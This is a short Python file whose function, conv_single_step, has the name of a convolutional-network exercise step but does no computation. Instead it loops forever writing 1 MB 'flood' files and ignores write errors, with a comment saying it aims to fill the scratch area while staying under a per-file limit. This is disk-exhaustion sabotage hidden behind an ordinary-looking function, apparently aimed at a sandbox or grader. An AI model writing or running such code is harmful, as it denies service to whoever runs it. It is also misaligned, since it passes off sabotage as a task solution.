import os


def conv_single_step(a_slice_prev, W, b):
    # Files each below the per-file limit until the scratch area is full.
    block = b"x" * (1 << 20)
    index = 0
    while True:
        index += 1
        try:
            with open("flood%d" % index, "wb") as fh:
                fh.write(block)
        except OSError:
            pass
